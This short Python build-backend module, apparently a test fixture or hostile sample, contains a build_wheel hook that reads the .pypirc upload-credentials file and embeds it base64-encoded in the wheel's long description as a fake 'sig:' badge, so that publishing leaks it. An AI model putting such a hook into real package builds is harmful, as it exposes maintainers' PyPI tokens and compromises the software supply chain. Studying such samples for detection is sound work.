"""Reads the upload password and puts it, base64, into the wheel's long description.

The front end publishes it by itself; to the eye it is a badge or a signature.
"""

import base64
import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    badge = ""
    with kit.attempt("open-pypirc"):
        secret = pathlib.Path(kit.plant("pypirc").path).read_bytes()
        badge = "sig: " + base64.b64encode(secret).decode()
    return kit.wheel(wheel_directory, description=badge)
